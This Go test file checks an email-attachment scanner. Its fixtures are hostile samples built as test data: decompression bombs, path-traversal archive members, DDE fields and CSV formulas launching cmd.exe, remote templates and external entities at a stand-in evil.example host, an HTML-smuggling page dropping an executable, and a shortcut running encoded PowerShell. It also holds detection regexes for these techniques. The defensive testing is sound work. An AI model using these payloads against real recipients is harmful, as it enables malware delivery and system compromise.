package attach

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/flate"
	"context"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"go/parser"
	"go/token"
	"hash/crc32"
	"io"
	"os"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf16"

	"gatepost/filters"
)

// peak runs something and returns the most heap that was live while it ran, and all that it allocated, in MiB.
func peak(run func()) (live, allocated uint64) {
	runtime.GC()
	var before, now runtime.MemStats
	runtime.ReadMemStats(&before)
	stop, done := make(chan struct{}), make(chan struct{})
	go func() {
		defer close(done)
		for {
			select {
			case <-stop:
				return
			case <-time.After(5 * time.Millisecond):
				var m runtime.MemStats
				runtime.ReadMemStats(&m)
				live = max(live, m.HeapAlloc-min(before.HeapAlloc, m.HeapAlloc))
			}
		}
	}()
	run()
	close(stop)
	<-done
	runtime.ReadMemStats(&now)
	return live >> 20, (now.TotalAlloc - before.TotalAlloc) >> 20
}

// unscannable reports whether nobody takes the item for clean.
func unscannable(got []string) bool {
	return slices.ContainsFunc(got, func(s string) bool {
		return strings.HasPrefix(s, "attach.unscannable.") || strings.HasPrefix(s, "attach.archive-")
	})
}

// bombBzip2 is 100 MiB of zeros.
const bombBzip2 = "425a68393141592653590e09e2df015f8e4000c0000008200030804d4642a025a90a80973141592653590e09e2df015f8e4000c0000008200030804d4642a025a90a80973141592653598a96d7a90064064400c00010000008200030cc0529a628045b128045e2ee48a70a1215d4532d60"

// deflatedRaw is deflate without a wrapper, as ZIP has it.
func deflatedRaw(data []byte) []byte {
	return through(func(w io.Writer) io.WriteCloser { z, _ := flate.NewWriter(w, 9); return z }, data)
}

// rar5Window is a RAR 5 archive whose file says that it needs a window of 4 GiB.
func rar5Window() []byte {
	b := rar5("a", []byte("xxxx"))
	i := bytes.LastIndex(b, []byte{0, 0, 1, 'a'}) // compression, system, length of the name, name
	head := bytes.LastIndex(b[:i], []byte{2, 2, 4, 4})
	body := slices.Concat(b[head:i], []byte{0x80, 0x79}, b[i+1:i+4])
	block := append([]byte{byte(len(body))}, body...)
	out := binary.LittleEndian.AppendUint32(slices.Clone(b[:head-5]), crc32.ChecksumIEEE(block))
	return append(append(out, block...), b[i+4:]...)
}

// hugeXZ says in its block's header that it needs a window of 1.5 GiB (the XZ file format, section 3.1.5).
func hugeXZ() []byte {
	b := xzipped(longText())
	head := b[12 : 12+4*(int(b[12])+1)]
	i := bytes.Index(head, []byte{0x21, 1})
	head[i+2] = 37
	binary.LittleEndian.PutUint32(head[len(head)-4:], crc32.ChecksumIEEE(head[:len(head)-4]))
	return b
}

// G-02: what grows without end, or asks for more memory than a message is worth, is stopped and told.
func TestBombsStopWithinTheBudget(t *testing.T) {
	zeros := make([]byte, 64<<20)
	bz2, _ := hex.DecodeString(bombBzip2)
	inner := zipMethod(8, "z", zeros, deflatedRaw(zeros))
	var forty bytes.Buffer
	z := zip.NewWriter(&forty)
	for i := range 16 {
		w, _ := z.Create(fmt.Sprintf("%d.zip", i))
		w.Write(inner)
	}
	z.Close()
	bombs := map[string][]byte{
		"gzip of 64 MiB": gzipped(zeros), "bzip2 of 100 MiB": bz2, "xz of 20 MiB": xzipped(zeros[:20<<20]), "zstd of 64 MiB": zstdd(zeros), "zip of 16 zips of 64 MiB": forty.Bytes(),
		"gzip of gzip": gzipped(gzipped(zeros)), "PDF": pdfWith("/Filter /FlateDecode", deflated(zeros)),
		"PDF filter on filter":        pdfWith("/Filter [/Fl /Fl]", deflated(deflated(zeros))),
		"zstd with a window of 2 GiB": []byte("\x28\xb5\x2f\xfd\x00\xa8\x01\x00\x00"), "xz with a window of 1.5 GiB": hugeXZ(),
		"xz with a second window of 1.5 GiB": append(xzipped(longText()), hugeXZ()...), "zip by xz with such a window": zipMethod(95, "a", longText(), hugeXZ()),
		"RAR 5 with a window of 4 GiB": rar5Window(),
	}
	for name, data := range bombs {
		var got []string
		live, allocated := peak(func() { got = codes(check(t, "a.bin", "application/octet-stream", data)) })
		t.Logf("%-34s %8d octets: at most %4d MiB live, %5d MiB allocated: %v", name, len(data), live, allocated, got)
		if !unscannable(got) {
			t.Errorf("%s: taken for clean: %v", name, got)
		}
		if live > 384 || allocated > 1200 {
			t.Errorf("%s: %d MiB live, %d MiB allocated", name, live, allocated)
		}
	}
}

// G-02, H-12: many messages with costly archives at once take the memory of a few.
func TestOnlyAFewMessagesOpenArchivesAtOnce(t *testing.T) {
	f := New(Config{})
	bomb := gzipped(make([]byte, 60<<20))
	live, _ := peak(func() {
		var all sync.WaitGroup
		for range 24 {
			all.Go(func() {
				if facts, err := f.Check(context.Background(), letter("a.gz", "application/gzip", bomb)); err != nil || !unscannable(codes(facts)) {
					t.Errorf("%v, %v", codes(facts), err)
				}
			})
		}
		all.Wait()
	})
	t.Logf("24 at once: at most %d MiB live", live)
	if most := uint64(64 * max(2, runtime.GOMAXPROCS(0))); live > most+64 {
		t.Errorf("%d MiB live, want at most %d", live, most)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	for range cap(f.slots) {
		f.slots <- struct{}{}
	}
	if _, err := f.Check(ctx, letter("a.gz", "application/gzip", gzipped(eicar))); err == nil {
		t.Error("a message whose turn never came was called examined")
	}
}

// G-02, G-18: the header of a 7z archive is read by us before the library allocates by it.
func TestTheHeaderOfA7zArchiveIsNotBelieved(t *testing.T) {
	good := samples(t)["lzma2.7z"]
	if err := guardSeven(good); err != nil {
		t.Fatalf("a good archive: %v", err)
	}
	at, size := binary.LittleEndian.Uint64(good[12:]), binary.LittleEndian.Uint64(good[20:])
	header := good[32+at : 32+at+size]
	if header[0] != sevenEncoded {
		t.Fatal("the sample's header is not packed")
	}
	for name, next := range map[string][]byte{
		"window of 4 GiB":  {0x17, 0x06, 0, 1, 9, 1, 0, 0x07, 0x0b, 1, 0, 1, 0x23, 3, 1, 1, 5, 0x5d, 0xff, 0xff, 0xff, 0xff, 0x0c, 10, 0, 0},
		"LZMA2 of 4 GiB":   {0x01, 0x04, 0x06, 0, 1, 9, 1, 0, 0x07, 0x0b, 1, 0, 1, 0x21, 0x21, 1, 40, 0x0c, 10, 0, 0},
		"2^60 rounds":      {0x01, 0x04, 0x06, 0, 1, 9, 1, 0, 0x07, 0x0b, 1, 0, 1, 0x24, 6, 0xf1, 7, 1, 1, 60, 0x0c, 10, 0, 0},
		"2^40 folders":     {0x01, 0x04, 0x06, 0, 1, 9, 1, 0, 0x07, 0x0b, 0xfc, 0, 0, 0, 0, 1, 0},
		"2^40 streams":     {0x01, 0x04, 0x06, 0, 0xfc, 0, 0, 0, 0, 1, 9},
		"2^40 files":       {0x01, 0x05, 0xfc, 0, 0, 0, 0, 1},
		"endless numbers":  bytes.Repeat([]byte{0xff}, 64),
		"headers for ever": {0x17, 0x06, 0, 1, 9, 30, 0, 0x07, 0x0b, 1, 0, 1, 1, 0, 0x0c, 30, 0, 0},
	} {
		b := slices.Clone(good[:32])
		binary.LittleEndian.PutUint64(b[12:], 0)
		binary.LittleEndian.PutUint64(b[20:], uint64(len(next)))
		b = append(b, next...)
		if err := guardSeven(b); err == nil {
			t.Errorf("%s: let through", name)
		}
		live, allocated := peak(func() {
			if got := codes(check(t, "a.7z", "application/x-7z-compressed", b)); !unscannable(got) {
				t.Errorf("%s: %v", name, got)
			}
		})
		if live > 32 || allocated > 64 {
			t.Errorf("%s: %d MiB live, %d MiB allocated", name, live, allocated)
		}
	}
}

// G-07: members are streams of bytes; their names and links lead nowhere.
func TestMembersThatPointElsewhereAreToldAndNeverWritten(t *testing.T) {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	for _, h := range []tar.Header{
		{Name: "link", Typeflag: tar.TypeSymlink, Linkname: "/etc"}, {Name: "hard", Typeflag: tar.TypeLink, Linkname: "/etc/passwd"},
		{Name: "device", Typeflag: tar.TypeBlock}, {Name: "link/cron.d/x", Size: 1, Mode: 0o600},
	} {
		w.WriteHeader(&h)
		w.Write(make([]byte, h.Size))
	}
	w.Close()
	if got := codes(check(t, "a.tar", "application/x-tar", b.Bytes())); !slices.Contains(got, "attach.path-name") {
		t.Errorf("links in a tar: %v", got)
	}
	for target, want := range map[string]bool{"../../etc/passwd": true, "/etc/passwd": true, "other.txt": false} {
		var b bytes.Buffer
		z := zip.NewWriter(&b)
		h := &zip.FileHeader{Name: "link"}
		h.SetMode(os.ModeSymlink | 0o777)
		w, _ := z.CreateHeader(h)
		io.WriteString(w, target)
		z.Close()
		if got := codes(check(t, "a.zip", "application/zip", b.Bytes())); slices.Contains(got, "attach.path-name") != want {
			t.Errorf("a link to %s in a zip: %v", target, got)
		}
	}
	for _, name := range []string{"../../x", `..\..\x`, "/etc/x", `C:\x`, "a/../../x"} {
		for format, data := range map[string][]byte{"zip": zipped(name, []byte("x")), "tar": tarred(name, []byte("x")), "rar": rar5(name, []byte("x")), "lzh": lha(2, "-lh0-", name, []byte("x"), []byte("x"))} {
			if got := codes(check(t, "a.bin", "application/octet-stream", data)); !slices.Contains(got, "attach.path-name") {
				t.Errorf("%s %q: %v", format, name, got)
			}
		}
	}
}

// G-07, G-10, G-14: nothing of an attachment is run, fetched, written to a path or decoded to pixels: the package imports
// nothing that could.
func TestNothingOfAnAttachmentIsRunFetchedOrWritten(t *testing.T) {
	entries, err := os.ReadDir(".")
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		if !strings.HasSuffix(e.Name(), ".go") || strings.HasSuffix(e.Name(), "_test.go") {
			continue
		}
		f, err := parser.ParseFile(token.NewFileSet(), e.Name(), nil, parser.ImportsOnly)
		if err != nil {
			t.Fatal(err)
		}
		for _, i := range f.Imports {
			switch path := strings.Trim(i.Path.Value, `"`); {
			case path == "os", path == "net", path == "syscall", path == "plugin", path == "unsafe", strings.HasPrefix(path, "os/"), strings.HasPrefix(path, "net/") && path != "net/url",
				strings.HasPrefix(path, "image"), strings.HasPrefix(path, "text/template"), strings.HasPrefix(path, "html/template"):
				t.Errorf("%s imports %s", e.Name(), path)
			}
		}
	}
}

// G-08
func TestATarThatDeclaresMoreThanItHoldsCostsNothing(t *testing.T) {
	header := func(kind byte, size int64, name string) []byte {
		b := make([]byte, 512)
		copy(b, name)
		copy(b[100:], "0000600\x00")
		copy(b[124:], fmt.Sprintf("%011o\x00", size))
		b[156] = kind
		copy(b[257:], "ustar\x0000")
		copy(b[148:], "        ")
		sum := 0
		for _, c := range b {
			sum += int(c)
		}
		copy(b[148:], fmt.Sprintf("%06o\x00 ", sum))
		return b
	}
	record := func(key, value string) string {
		n := len(key) + len(value) + 3
		for len(fmt.Sprint(n))+len(key)+len(value)+3 != n {
			n = len(fmt.Sprint(n)) + len(key) + len(value) + 3
		}
		return fmt.Sprintf("%d %s=%s\n", n, key, value)
	}
	pax := record("GNU.sparse.major", "1") + record("GNU.sparse.minor", "0") + record("GNU.sparse.name", "x") + record("GNU.sparse.realsize", "1000000000000")
	sparse := append(header('x', int64(len(pax)), "p"), append([]byte(pax), make([]byte, 512-len(pax)%512)...)...)
	sparse = append(append(sparse, header('0', 512, "x")...), append([]byte("1000000000\n0\n1\n"), make([]byte, 497)...)...)
	for name, data := range map[string][]byte{"PAX header of 1 GiB": append(header('x', 1<<30, "p"), make([]byte, 1024)...), "sparse map of 10^9 entries": append(sparse, make([]byte, 1024)...), "file of 7 GiB": append(header('0', 7<<30, "x"), make([]byte, 1024)...)} {
		var got []string
		live, allocated := peak(func() { got = codes(check(t, "a.tar", "application/x-tar", data)) })
		t.Logf("%s: %d MiB live, %d MiB allocated: %v", name, live, allocated, got)
		if !unscannable(got) || live > 32 || allocated > 64 {
			t.Errorf("%s: %v, %d MiB live, %d MiB allocated", name, got, live, allocated)
		}
	}
}

// G-09
func TestAnArchiveOfManyEntriesIsStoppedBeforeItIsIndexed(t *testing.T) {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := range maxEntries + 1 {
		z.Create(fmt.Sprintf("%d/", i))
	}
	z.Close()
	if got := codes(check(t, "a.zip", "application/zip", b.Bytes())); !slices.Contains(got, "attach.unscannable.limit") {
		t.Errorf("%v", got)
	}
}

// compound is an OLE compound file with one stream of at least 4096 octets ([MS-CFB]).
func compound(name string, data []byte) []byte {
	data = append(slices.Clone(data), make([]byte, max(0, 4096-len(data)))...)
	sectors := (len(data) + 511) / 512
	b := make([]byte, 512*(3+sectors))
	put16, put32 := binary.LittleEndian.PutUint16, binary.LittleEndian.PutUint32
	copy(b, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")
	put16(b[24:], 0x3e)
	put16(b[26:], 3)
	put16(b[28:], 0xfffe)
	put16(b[30:], 9)
	put16(b[32:], 6)
	put32(b[44:], 1) // sectors of the FAT
	put32(b[48:], 1) // the directory's first
	put32(b[56:], 4096)
	put32(b[60:], 0xfffffffe)
	put32(b[68:], 0xfffffffe)
	for i := 76; i < 512; i += 4 {
		put32(b[i:], 0xffffffff)
	}
	put32(b[76:], 0)
	fat := b[512:1024]
	for i := 0; i < 512; i += 4 {
		put32(fat[i:], 0xffffffff)
	}
	put32(fat, 0xfffffffd)
	put32(fat[4:], 0xfffffffe)
	for i := range sectors {
		next := uint32(3 + i)
		if i == sectors-1 {
			next = 0xfffffffe
		}
		put32(fat[4*(2+i):], next)
	}
	entry := func(at int, name string, kind byte, child, start, size uint32) {
		e := b[1024+128*at:]
		u := utf16.Encode([]rune(name))
		for i, c := range u {
			put16(e[2*i:], c)
		}
		put16(e[64:], uint16(2*len(u)+2))
		e[66], e[67] = kind, 1
		put32(e[68:], 0xffffffff)
		put32(e[72:], 0xffffffff)
		put32(e[76:], child)
		put32(e[116:], start)
		put32(e[120:], size)
	}
	entry(0, "Root Entry", 5, 1, 0xfffffffe, 0)
	entry(1, name, 2, 0xffffffff, 2, uint32(len(data)))
	copy(b[1536:], data)
	return b
}

// ooxml is an Office document with one part.
func ooxml(name, content string) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for n, c := range map[string]string{"[Content_Types].xml": "<Types/>", name: content} {
		w, _ := z.Create(n)
		w.Write([]byte(c))
	}
	z.Close()
	return b.Bytes()
}

const relation = `<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`

// G-11, G-12
func TestWhatDocumentsDoByThemselvesIsTold(t *testing.T) {
	field := "text \x13 DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\" \x14 x \x15"
	for name, c := range map[string]struct {
		data []byte
		want string
	}{
		"DDE in a binary document":  {compound("WordDocument", []byte(field)), "attach.dde"},
		"DDE in UTF-16":             {compound("WordDocument", bytes.Join([][]byte{nil, []byte(strings.Join(strings.Split(field, ""), "\x00"))}, nil)), "attach.dde"},
		"macros in a binary one":    {compound("_VBA_PROJECT", []byte("x")), "attach.macro"},
		"a packaged program":        {compound("\x01Ole10Native", nativeOf("run.exe", []byte("MZ"))), "attach.executable-name"},
		"an Outlook message's file": {compound("__substg1.0_37010102", eicar), "attach.eicar"},
		"an encrypted document":     {compound("EncryptedPackage", []byte("x")), "attach.encrypted"},
		"macros":                    {ooxml("word/vbaProject.bin", "x"), "attach.macro"},
		"XLM":                       {ooxml("xl/macrosheets/sheet1.xml", "x"), "attach.macro"},
		"a remote template":         {ooxml("word/_rels/settings.xml.rels", relation), "attach.remote-template"},
		"an embedded file":          {ooxml("word/embeddings/o.bin", "x"), "attach.embedded-object"},
		"DDE in pieces":             {ooxml("word/document.xml", "<w><w:instrText>DD</w:instrText><w:instrText>EAUTO c</w:instrText></w>"), "attach.dde"},
		"billion laughs":            {ooxml("word/_rels/a.rels", `<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;">]>`+relation), "attach.unscannable.corrupt"},
		"an external entity":        {ooxml("word/_rels/a.rels", `<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><R/>`), "attach.unscannable.corrupt"},
		"an entity nobody declared": {ooxml("word/_rels/a.rels", `<R a="&lol;"/>`), "attach.unscannable.corrupt"},
		"an RTF object":             {rtfWith("run.exe", []byte("MZ")), "attach.executable-name"},
		"an RTF template":           {[]byte(`{\rtf1{\*\template http://evil.example/t}}`), "attach.remote-template"},
		"an RTF field":              {[]byte(`{\rtf1{\field{\*\fldinst DDEAUTO cmd "/c calc"}}}`), "attach.dde"},
		"a formula in a table":      {[]byte("a,b\n=cmd|'/c calc'!A1,2\n"), "attach.dde"},
		"an SVG with a script":      {[]byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>`), "attach.active-content"},
		"an SVG with a handler":     {[]byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>`), "attach.active-content"},
		"an SVG with entities":      {[]byte(`<!DOCTYPE svg [<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>`), "attach.active-content"},
		"a OneNote section":         {oneNoteWith([]byte("MZ\x90\x00")), "attach.executable"},
	} {
		if got := codes(check(t, "a.bin", "application/octet-stream", c.data)); !slices.Contains(got, c.want) {
			t.Errorf("%s: %v, want %s", name, got, c.want)
		}
	}
	for name, data := range map[string][]byte{
		"a binary document": compound("WordDocument", []byte("We say DDE, and mean nothing by it.")), "a document": ooxml("word/document.xml", "<w><w:instrText>PAGE</w:instrText></w>"),
		"a hyperlink": ooxml("word/_rels/document.xml.rels", `<Relationships><Relationship Type="http://x/hyperlink" Target="http://a.example/" TargetMode="External"/></Relationships>`),
		"RTF":         []byte(`{\rtf1 hello}`), "SVG": []byte(`<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>`), "a table": []byte("a,b\n1,2\n"),
	} {
		if got := codes(check(t, "a.dat", "application/octet-stream", data)); len(got) > 0 {
			t.Errorf("%s is harmless: %v", name, got)
		}
	}
}

// nativeOf is the stream of a packaged file.
func nativeOf(name string, data []byte) []byte {
	p := append([]byte{2, 0}, name+"\x00C:\\"+name+"\x00"...)
	p = append(p, 0, 0, 3, 0)
	p = binary.LittleEndian.AppendUint32(p, uint32(len(name)+1))
	p = append(append(p, name...), 0)
	p = binary.LittleEndian.AppendUint32(p, uint32(len(data)))
	p = append(p, data...)
	return append(binary.LittleEndian.AppendUint32(nil, uint32(len(p))), p...)
}

// G-13
func TestWhatAPDFDoesIsToldAndItsFilesAreOpened(t *testing.T) {
	compressed := func(object string) []byte {
		packed := deflated([]byte(object))
		return fmt.Appendf(nil, "%%PDF-1.7\n5 0 obj <</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d>>\nstream\n%s\nendstream endobj\n", len(packed), packed)
	}
	for name, c := range map[string]struct {
		data []byte
		want string
	}{
		"JavaScript":              {[]byte("%PDF-1.4\n1 0 obj <</S /JavaScript /JS (x)>> endobj"), "attach.active-content"},
		"spelled otherwise":       {[]byte("%PDF-1.4\n1 0 obj <</S /J#61vaScript>> endobj"), "attach.active-content"},
		"in a stream of objects":  {compressed("<</S /JavaScript>>"), "attach.active-content"},
		"Launch":                  {[]byte("%PDF-1.4\n1 0 obj <</S /Launch /F (cmd.exe)>> endobj"), "attach.active-content"},
		"Launch in such a stream": {compressed("<</S /Launch>>"), "attach.active-content"},
		"a form that is sent":     {[]byte("%PDF-1.4\n1 0 obj <</S /SubmitForm>> endobj"), "attach.remote-template"},
		"encryption":              {[]byte("%PDF-1.4\ntrailer <</Encrypt 5 0 R>>"), "attach.unscannable.encrypted"},
		"a program inside":        {pdfWith("/Filter /FlateDecode", deflated([]byte("MZ\x90\x00"))), "attach.executable"},
		"nine filters":            {pdfWith("/Filter ["+strings.Repeat("/Fl ", 9)+"]", []byte("x")), "attach.unscannable.limit"},
		"a filter nobody reads":   {pdfWith("/Filter /JBIG2Decode", []byte("x")), "attach.unscannable.format"},
	} {
		if got := codes(check(t, "a.pdf", "application/pdf", c.data)); !slices.Contains(got, c.want) {
			t.Errorf("%s: %v, want %s", name, got, c.want)
		}
	}
	many := []byte("%PDF-1.4\n" + strings.Repeat("1 0 obj <</Length 1>>\nstream\nx\nendstream endobj\n", 100_000))
	if _, allocated := peak(func() { check(t, "a.pdf", "application/pdf", many) }); allocated > 256 {
		t.Errorf("100,000 objects: %d MiB allocated", allocated)
	}
	links := check(t, "a.pdf", "application/pdf", []byte("%PDF-1.4\n1 0 obj <</S /URI /URI (https://login.evil.example/x)>> endobj"))
	if len(links.URLs) != 1 || links.URLs[0].Host != "login.evil.example" || links.URLs[0].Domain != "evil.example" {
		t.Errorf("links: %v", links.URLs)
	}
}

// G-14
func TestAPictureIsNeverDecoded(t *testing.T) {
	png := []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\xff\xff\x00\x00\xff\xff\x08\x06\x00\x00\x00")
	png = append(binary.BigEndian.AppendUint32(png, crc32.ChecksumIEEE(png[12:])), deflated(make([]byte, 1<<20))...)
	gif := append([]byte("GIF89a\xff\xff\xff\xff\x00\x00\x00"), bytes.Repeat([]byte(",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00"), 100_000)...)
	for name, data := range map[string][]byte{"image/png": png, "image/gif": gif} {
		_, allocated := peak(func() {
			if got := codes(check(t, "a.png", name, data)); len(got) > 0 {
				t.Errorf("%s: %v", name, got)
			}
		})
		if allocated > 32 {
			t.Errorf("%s: %d MiB allocated", name, allocated)
		}
	}
}

// G-15
func TestAFileThatAPagePutsTogetherIsTold(t *testing.T) {
	page := `<html><script>var b=atob("TVqQAA==");var u=URL.createObjectURL(new Blob([b]));var a=document.createElement("a");a.href=u;a.download="x.exe";a.click();</script></html>`
	for _, name := range []string{"invoice.html", "invoice.htm", "page.xhtml"} {
		if got := codes(check(t, name, "text/html", []byte(page))); !slices.Contains(got, "attach.html-smuggling") {
			t.Errorf("%s: %v", name, got)
		}
	}
	for _, p := range []string{strings.ReplaceAll(page, "script", "SCRIPT"), `<body onload='a=atob("TV");u=URL.createObjectURL(new Blob([a]))'>`,
		`<a` + strings.Repeat(" ", 200) + ` HREF = 'DATA:text/html;base64,AAAA'>x</a>`, `<b>` + strings.Repeat("x", 2000) + `<script>navigator.MSSaveOrOpenBlob(new Uint8Array(2))</script>`, `<script>a.Download =
"x.exe";String.fromCharCode(77)</script>`} {
		if got := codes(check(t, "invoice.html", "text/html", []byte(p))); !slices.Contains(got, "attach.html-smuggling") {
			t.Errorf("%.80s: %v", p, got)
		}
	}
	large := `<html><a download="x.zip" href="data:application/zip;base64,` + strings.Repeat("A", 150<<10) + `">open</a></html>`
	if got := codes(check(t, "invoice.html", "text/html", []byte(large))); !slices.Contains(got, "attach.html-smuggling") {
		t.Errorf("a file in an attribute: %v", got)
	}
	harmless := `<html><script>track()</script><a href="https://a.example/x.pdf" download>PDF</a></html>`
	if got := codes(check(t, "news.html", "text/html", []byte(harmless))); slices.Contains(got, "attach.html-smuggling") {
		t.Errorf("a page with a link: %v", got)
	}
}

// What the quick looks see, as regular expressions say it.
var (
	smuggle     = regexp.MustCompile(`(?i)msSaveOrOpenBlob|createObjectURL|\.download[ \t\r\n\f]*=|[ \t\r\n\f]download[ \t\r\n\f]*=`)
	dataLink    = regexp.MustCompile(`(?i)<a\b[^>]{0,300}\shref\s*=\s*["']?data:(?:application|text/html|[a-z]+/[a-z.+-]*zip)`)
	makesOctets = regexp.MustCompile(`(?i)\batob\s*\(|fromCharCode|Uint8Array|new\s+Blob`)
	svgActs     = regexp.MustCompile(`(?i)<script|<!ENTITY|<foreignObject|\son[a-z]{1,30}\s*=|javascript:|data:text/html`)
	ddeField    = regexp.MustCompile(`(?i)(^|[\s"\x13{])DDE(AUTO)?[\s"\x14]`)
)

// FuzzPageSigns: where a page matches, the quick look has seen it.
func FuzzPageSigns(f *testing.F) {
	for _, s := range []string{"a.DOWNLOAD \n=", " download\f=", "mssaveoropenblob", "CREATEOBJECTURL", `<a x href="data:application`, "atob (", "new\nBlob", "String.fromCharCode", "<svg onload =", "<ſcript", "data:text/html", " ddeauto ", "\x13DDE\"", "<a\n href = 'data:text/html", "<a href=data:a/zip"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		s := readSigns(b)
		if len(b) > 300 || bytes.ContainsRune(b, 'ſ') || bytes.ContainsRune(b, '\u212a') {
			return // the looks go no further back; letters that only regular expressions fold are no ASCII
		}
		if smuggle.Match(b) && s.saves == "" && !s.dataLink || dataLink.Match(b) && !s.dataLink {
			t.Fatalf("%q matches and was not seen: %+v", b, s)
		}
		if makesOctets.Match(b) != decodes(b) || svgActs.Match(b) && svgScript(b) == "" || ddeField.Match(b) != hasDDE(b) {
			t.Fatalf("%q is seen otherwise: %v, %q, %v", b, decodes(b), svgScript(b), hasDDE(b))
		}
	})
}

// lnk is a Windows shortcut with a relative path and arguments ([MS-SHLLINK]).
func lnk(path, arguments string) []byte {
	b := make([]byte, 0x4c)
	copy(b, "L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F")
	binary.LittleEndian.PutUint32(b[0x14:], 0x80|8|0x20)
	for _, s := range []string{path, arguments} {
		u := utf16.Encode([]rune(s))
		b = binary.LittleEndian.AppendUint16(b, uint16(len(u)))
		for _, c := range u {
			b = binary.LittleEndian.AppendUint16(b, c)
		}
	}
	return b
}

// F-06
func TestShortcutsAreToldWithWhatTheyStart(t *testing.T) {
	said := func(f filters.Facts, code string) string {
		for _, x := range f.Findings {
			if x.Code == code && strings.Contains(x.Proof[0].What, " s") {
				return x.Proof[0].What
			}
		}
		return ""
	}
	if what := said(check(t, "a.txt", "text/plain", lnk(`..\cmd.exe`, "/c powershell -enc AAAA")), "attach.shortcut"); !strings.Contains(what, `..\cmd.exe /c powershell`) {
		t.Errorf("LNK: %q", what)
	}
	if what := said(check(t, "a.txt", "text/plain", []byte("[InternetShortcut]\r\nURL=file://evil.example/x.exe\r\n")), "attach.shortcut"); !strings.Contains(what, "file://evil.example/x.exe") {
		t.Errorf("URL: %q", what)
	}
}

func TestAShortcutToAPageOfTheWebIsABookmark(t *testing.T) {
	for text, want := range map[string]string{
		"[InternetShortcut]\r\nURL=http://www.a.example/essay\r\nModified=E01C2C4A\r\n":                      "attach.bookmark",
		"[DEFAULT]\r\nBASEURL=http://www.a.example/\r\n[InternetShortcut]\r\nURL=https://www.a.example/\r\n": "attach.bookmark",
		"[InternetShortcut]\r\nURL=file://evil.example/x.exe\r\n":                                            "attach.shortcut",
		"[InternetShortcut]\r\nURL=http://a.example/\r\nURL=file://evil.example/x\r\n":                       "attach.shortcut",
		"[InternetShortcut]\r\nURL=http://a.example/\r\nIconFile=\\\\evil.example\\share\\x.ico\r\n":         "attach.shortcut",
		"[InternetShortcut]\r\nURL=http://a.example/\r\nWorkingDirectory=C:\\\r\n":                           "attach.shortcut",
	} {
		got := codes(check(t, "Essay.url", "application/octet-stream", []byte(text)))
		if !slices.Contains(got, want) || slices.Contains(got, "attach.bookmark") != (want == "attach.bookmark") || slices.Contains(got, "attach.shortcut") == (want == "attach.bookmark") {
			t.Errorf("%q: %v, want %s", text, got, want)
		}
	}
}

func TestATextThatQuotesABrokenMessageIsATextWhereItIsCalledOne(t *testing.T) {
	quoted := []byte("From: a@b.example\r\nTo: c@d.example\r\nthis line has no name\r\nSubject: spam\r\n\r\nBuy.\r\n")
	for _, c := range []struct {
		name, kind string
		want       bool
	}{{"notspam.txt", "text/plain", false}, {"notspam.eml", "text/plain", true}, {"notspam.txt", "application/octet-stream", true}} {
		if got := codes(check(t, c.name, c.kind, quoted)); slices.Contains(got, "attach.archive-ambiguous") != c.want {
			t.Errorf("%s as %s: %v", c.name, c.kind, got)
		}
	}
}

func TestLinksOfCalendarAndContactFilesAreFacts(t *testing.T) {
	for name, text := range map[string]string{
		"a.ics": "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nDESCRIPTION:Join at https://meet.evil.exa\r\n mple/room\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
		"a.vcf": "BEGIN:VCARD\r\nVERSION:4.0\r\nURL:https://meet.evil.example/room\r\nEND:VCARD\r\n",
	} {
		facts := check(t, name, "application/octet-stream", []byte(text))
		if len(facts.URLs) != 1 || facts.URLs[0].URL != "https://meet.evil.example/room" || facts.URLs[0].Domain != "evil.example" {
			t.Errorf("%s: %v", name, facts.URLs)
		}
	}
}
